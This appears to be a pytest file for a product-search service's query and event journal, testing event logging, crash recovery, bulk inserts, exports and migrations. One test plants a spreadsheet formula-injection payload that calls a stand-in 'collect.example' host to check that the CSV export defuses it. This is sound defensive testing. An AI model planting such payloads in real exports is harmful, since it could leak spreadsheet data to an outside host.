"""What people do with hits is noted beside the query, and never without it."""

from __future__ import annotations

import csv
import json
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pyarrow.parquet as pq
import pytest
from alembic import command
from alembic.autogenerate import compare_metadata
from alembic.runtime.migration import MigrationContext
from sqlalchemy import delete, select, text

from tests.journal.queries import recent
from vsearch_core.contracts import SearchResult
from vsearch_core.database import Base, Database, migrations, open_database
from vsearch_core.errors import DatabaseError
from vsearch_core.journal import KINDS, Encoded, Event, Journal, PhotoFolder, Query, Request, contents
from vsearch_core.journal.bulk import insert_many
from vsearch_core.journal.export import export
from vsearch_core.journal.rows import event_row, query_row
from vsearch_core.reviews import Verdict
from vsearch_core.service.keys import KeyRow
from vsearch_core.table_files import inert

Make = Callable[..., SearchResult]


def _note(journal: Journal, result: SearchResult) -> str:
    return journal.record(result, Request(source="upload", session="s", model="m"))


def _events(database: Database) -> list[Event]:
    with database.session() as session:
        return list(session.scalars(select(Event).order_by(Event.time)))


def test_every_kind_of_event_is_noted_with_its_product_and_position(
    journal: Journal, database: Database, result: Make
) -> None:
    query = _note(journal, result())
    for place, kind in enumerate(KINDS, start=1):
        about = {} if kind == "none_of_these" else {"product": f"1{place}", "position": place}
        journal.record_event(query, kind, session="s", **about)  # type: ignore[arg-type]
    assert journal.flush()
    found = {event.kind: (event.query, event.product, event.position, event.sample) for event in _events(database)}
    place = 1 + KINDS.index("wanted")
    assert found["wanted"] == (query, f"1{place}", place, False)
    assert found["none_of_these"] == (query, None, None, False)
    assert set(found) == set(KINDS)
    assert journal.health().written == 1 + len(KINDS)


def test_an_event_of_a_query_that_is_not_there_is_lost_alone(
    journal: Journal, database: Database, result: Make
) -> None:
    query = _note(journal, result())
    journal.record_event("unknown", "viewed", session="s", product="1", position=1)
    journal.record_event(query, "viewed", session="s", product="1", position=1)
    assert journal.flush()
    assert [event.query for event in _events(database)] == [query]
    assert (journal.health().ok, journal.health().lost) == (True, 1)


def test_an_event_that_makes_no_sense_is_lost_and_breaks_nothing(journal: Journal, result: Make) -> None:
    query = _note(journal, result())
    journal.record_event(query, "sold", session="s")  # type: ignore[arg-type]
    journal.record_event(query, "viewed", session="s", product="1", position=0)
    journal.record_event(query, "viewed", session="s", product="1", position=1, value=9.5)
    journal.record_event(query, "bought", session="s", product="1", position=1, value=float("nan"))
    assert journal.flush()
    assert journal.health().lost == 4


def test_what_was_bought_has_the_order_s_value(journal: Journal, database: Database, result: Make) -> None:
    query = _note(journal, result())
    journal.record_event(query, "bought", session="s", product="1", position=1, value=1499.0)
    journal.record_event(query, "basket", session="s", product="1", position=1)
    assert journal.flush()
    assert {event.kind: event.value for event in _events(database)} == {"bought": 1499.0, "basket": None}


def test_events_go_with_their_query(journal: Journal, database: Database, result: Make) -> None:
    query = _note(journal, result())
    journal.record_event(query, "wanted", session="s", product="1", position=1)
    assert journal.flush()
    with database.session() as session:
        session.execute(delete(Query))
    assert _events(database) == []


def test_a_server_that_crashes_is_reported_and_caught_up_with_when_it_is_back(
    journal: Journal, result: Make, postgresql: Any
) -> None:
    before = _note(journal, result())
    assert journal.flush()
    postgresql.stop()
    try:
        after = _note(journal, result())
        journal.record_event(after, "viewed", session="s", product="1", position=1)
        assert not journal.flush(timeout=1)
        assert not journal.health().ok
        assert "cannot be opened" in journal.health().line
        with pytest.raises(DatabaseError):
            recent(journal)
    finally:
        postgresql.start()
    assert journal.flush(timeout=60)
    assert set(recent(journal)["id"]) == {before, after}
    assert (journal.health().ok, journal.health().lost) == (True, 0)


def _traffic(result: SearchResult, count: int) -> tuple[list[dict[str, Any]], list[dict[str, Any]]]:
    start = datetime(2026, 3, 1, 23, 59, tzinfo=UTC)
    times = [start + timedelta(minutes=7 * place) for place in range(count)]
    queries = [
        query_row(result, Request(source="upload", session="s", model="m", sample=True), time=time) for time in times
    ]
    events = [
        event_row(row["id"], "viewed", time=row["time"], session="s", product="10", position=1, sample=True)
        for row in queries[::2]
    ]
    return queries, events


def test_many_rows_are_written_at_once_and_read_like_those_that_were_noted(
    database: Database, journal: Journal, result: Make
) -> None:
    photo = Encoded.of(result().analysis.embedding.reshape(16, 16, 1).repeat(3, 2).astype("uint8"))
    row = photo.row(time=datetime.now(UTC), days=1, consent="sample", embedding=result().analysis.embedding)
    queries, events = _traffic(result(), 50)
    queries[0]["photo"] = photo.hash
    assert insert_many(database, iter(queries), iter(events), [row]) == 50 + 25 + 1
    noted = _note(journal, result())
    assert journal.flush()
    frame = recent(journal).set_index("id")
    assert frame.loc[queries[0]["id"], "photo"] == photo.hash
    assert frame.loc[queries[0]["id"], "time"] == queries[0]["time"]
    same = ["product_types", "hits", "attributes", "best_score", "filters", "partitions", "timings_ms", "k"]
    assert frame.loc[queries[1]["id"], same].to_dict() == frame.loc[noted, same].to_dict()
    assert frame["sample"].sum() == 50
    assert len(_events(database)) == 25


def test_a_row_that_the_database_refuses_is_told_in_words(database: Database, result: Make) -> None:
    _, events = _traffic(result(), 2)
    with pytest.raises(DatabaseError) as caught:
        insert_many(database, events=events)
    assert caught.value.code == "database_refused"


@pytest.mark.parametrize("format", ["parquet", "csv"])
def test_an_export_has_every_query_and_event_and_names_no_photo(
    database: Database, result: Make, tmp_path: Path, format: Any
) -> None:
    queries, events = _traffic(result(), 5)
    insert_many(database, queries, events)
    assert export(database, tmp_path / "out", format) == {f"queries.{format}": 5, f"events.{format}": 3}
    if format == "parquet":
        read = pq.read_table(tmp_path / "out" / "queries.parquet").to_pylist()
        assert read[0]["time"] == queries[0]["time"]
    else:
        with (tmp_path / "out" / "queries.csv").open(newline="", encoding="utf-8-sig") as file:
            read = list(csv.DictReader(file))
    assert [row["id"] for row in read] == [row["id"] for row in queries]
    assert json.loads(read[0]["hits"]) == queries[0]["hits"]
    assert "photo" not in read[0]
    assert sorted(path.name for path in (tmp_path / "out").iterdir()) == [f"events.{format}", f"queries.{format}"]


def test_nothing_in_an_exported_csv_is_a_formula(database: Database, result: Make, tmp_path: Path) -> None:
    queries, events = _traffic(result(), 1)
    nasty = '=HYPERLINK("http://collect.example";A1)'
    queries[0] |= {"product_type": nasty, "filters": {"brand": [nasty, "x;@SUM(1)"]}, "best_score": -0.25}
    insert_many(database, queries, events)
    export(database, tmp_path, "csv")
    text = (tmp_path / "queries.csv").read_text("utf-8-sig")
    row = next(csv.DictReader(text.splitlines()))
    assert row["product_type"] == inert(nasty)
    assert json.loads(row["filters"]) == queries[0]["filters"]
    assert float(row["best_score"]) == -0.25
    for separator in ",;":
        split = csv.reader(text.splitlines(), delimiter=separator, quoting=csv.QUOTE_NONE)
        assert not [cell for line in split for cell in line if cell.strip(' "').startswith(("=", "@", "+"))]


def test_what_a_journal_holds_is_told(database: Database, result: Make, tmp_path: Path) -> None:
    folder = PhotoFolder(tmp_path / "photos")
    assert contents(database, folder)["first"] is None
    queries, events = _traffic(result(), 3)
    insert_many(database, queries, events)
    found = contents(database, folder)
    assert (found["queries"], found["sample_queries"], found["events"], found["photos"]) == (3, 3, 2, 0)
    assert found["first"] == queries[0]["time"].isoformat()


def test_the_schema_goes_down_and_up_again_and_the_queries_stay(url: str, result: Make) -> None:
    database = open_database(url)
    queries, events = _traffic(result(), 3)
    insert_many(database, queries, events)
    _migrate(database, command.downgrade, "0001")
    with database.session() as session:
        assert session.scalar(text("SELECT count(*) FROM queries")) == 3
    _migrate(database, command.upgrade, "head")
    with database.session() as session:
        rows = list(session.scalars(select(Query).order_by(Query.time)))
        assert [row.id for row in rows] == [row["id"] for row in queries]
        assert [row.hits for row in rows] == [row["hits"] for row in queries]
        assert (rows[0].items, rows[0].attributes, rows[0].sample) == ([], {}, False)
    assert Verdict.__table__.metadata is KeyRow.__table__.metadata is Base.metadata
    with database.engine.connect() as connection:
        assert compare_metadata(MigrationContext.configure(connection), Base.metadata) == []
    _migrate(database, command.downgrade, "base")
    _migrate(database, command.upgrade, "head")
    database.close()


def _migrate(database: Database, go: Callable[..., None], revision: str) -> None:
    with database.engine.connect().execution_options(write_lock=True) as connection, connection.begin():
        go(migrations(connection), revision)
